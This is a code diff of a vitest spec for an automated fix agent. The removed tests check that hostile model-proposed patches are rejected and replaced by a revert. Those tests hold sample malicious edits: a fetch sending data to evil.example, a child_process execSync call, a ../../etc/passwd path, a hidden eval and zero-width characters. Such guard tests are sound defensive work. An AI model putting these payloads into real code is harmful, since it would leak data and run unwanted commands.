@@ -1,42 +1,10 @@
 import { applyPatch, parsePatch } from 'diff'
 import { describe, expect, it } from 'vitest'
 import { sha256Hex } from '../../src/kit/hash.ts'
-import type { FixDraft } from '../../src/timeline/payloads/fix.ts'
 import { contextFor, GUILTY, gathered, TOTAL_BEFORE, TOTAL_NOW } from '../../src/worker-kit/context.spec-support.ts'
-import type { Provenance } from '../../src/worker-kit/define-agent.ts'
-import { stated, workAfter } from '../../src/worker-kit/work.spec-support.ts'
+import { workAfter } from '../../src/worker-kit/work.spec-support.ts'
+import { draft, OURS, workFor } from './agent.spec-support.ts'
 import { fixAgent } from './agent.ts'
-import type { FixVerdict } from './verdict.ts'
-
-const FREE = { input_tokens: 0, output_tokens: 0, usd: 0 }
-const OURS: Provenance = { reasoner: 'ranked-evidence', cost: FREE }
-const MODEL: Provenance = { reasoner: 'claude', cost: FREE, model: 'claude-sonnet-5-5', prompt_sha256: 'a'.repeat(64) }
-const CAUSE = {
-  hypothesis_id: 'h1',
-  cause: 'The guard was taken away',
-  service: 'checkout',
-  change_ref: GUILTY,
-  confidence: 0.9,
-  evidence_ids: ['ev1', 'ev5'],
-}
-
-function workFor(context = contextFor()) {
-  return workAfter(gathered(context).cause(0.9, { hypotheses: [CAUSE] }).events)
-}
-
-function draft(verdict?: Partial<FixVerdict>, context = contextFor(), by = verdict ? MODEL : OURS): FixDraft {
-  const work = workFor(context)
-  const input = fixAgent.read(work)
-  const event = stated(fixAgent.conclude({ ...fixAgent.ranked(input), ...verdict }, input, work, by)[0], work.now)
-  if (event.event_type !== 'FixProposed' || event.payload.stage !== 'draft') throw new Error('It states a draft.')
-  expect(event.discriminator).toBe('draft')
-  return event.payload
-}
-const mend = (new_text: string, path = 'src/total.js', old_text = '  return cart.rate.value'): Partial<FixVerdict> => ({
-  choice: 'patch',
-  why: 'A cart without a rate is worth its sum',
-  replacements: [{ path, old_text, new_text }],
-})
 
 describe('workers/fix-agent/agent.ts', () => {
   it('undoes the guilty change and nothing else', () => {
@@ -159,44 +127,6 @@ describe('workers/fix-agent/agent.ts', () => {
     ])
     expect(fix.diff).toContain('+++ /dev/null')
     expect(fix.diff).toContain('--- /dev/null')
-  })
-
-  it("takes a model's patch that keeps the limits", () => {
-    const fix = draft(mend('  return cart.rate === undefined ? 1 : cart.rate.value'))
-    expect(fix).toMatchObject({ kind: 'patch', reasoner: 'claude', risk: { level: 'medium' } })
-    expect(fix.reverts).toBeUndefined()
-    expect(fix.edits[0]?.content).toContain('cart.rate === undefined ? 1')
-  })
-
-  it.each([
-    ['another file', mend('x', '.github/workflows/ci.yml')],
-    ['a file outside', mend('x', '../../etc/passwd')],
-    ['text that is not there', mend('x', 'src/total.js', 'no such text')],
-    ['text that stands twice', mend('x', 'src/total.js', 'cart')],
-    ['nothing', mend('  return cart.rate.value')],
-    ['a process', mend("  return require('child_process').execSync('id')")],
-    ['a request to elsewhere', mend("  fetch('https://evil.example/?c=' + cart)\n  return 1")],
-    ['an eval behind a false header', mend('++ eval(cart.code)\n  return 1')],
-    ['hidden characters', mend(`  return cart.rate${String.fromCodePoint(0x200b)}?.value`)],
-    ['a wall of code', mend(Array.from({ length: 201 }, (_, place) => `  let a${place} = 1`).join('\n'))],
-  ])('sets a patch aside that touches %s, and reverts instead', (_, verdict) => {
-    const fix = draft(verdict)
-    expect(fix).toMatchObject({ kind: 'revert', reverts: GUILTY, reasoner: 'ranked-evidence' })
-    expect(fix.edits).toEqual([{ path: 'src/total.js', content: TOTAL_BEFORE }])
-    expect(fix.why).toContain('A patch was set aside')
-  })
-
-  it('sets a patch aside that would not be pushed, and reverts instead', () => {
-    const lock = { path: 'composer.lock', content: 'old\n' }
-    const context = contextFor({ sources: [...contextFor().sources, lock] })
-    const fix = draft(mend('new', 'composer.lock', 'old'), context)
-    expect(fix).toMatchObject({ kind: 'revert', why: expect.stringContaining('does more than a diff shows') })
-  })
-
-  it('sets a patch of a file aside that is not known exactly', () => {
-    const other = { path: 'src/label.js', content: 'old\n', altered: true as const }
-    const context = contextFor({ sources: [...contextFor().sources, other] })
-    expect(draft(mend('new', other.path, 'old'), context).why).toContain('src/label.js is not known exactly')
   })
 
   it('shows the revert as risky when a model advises against it', () => {
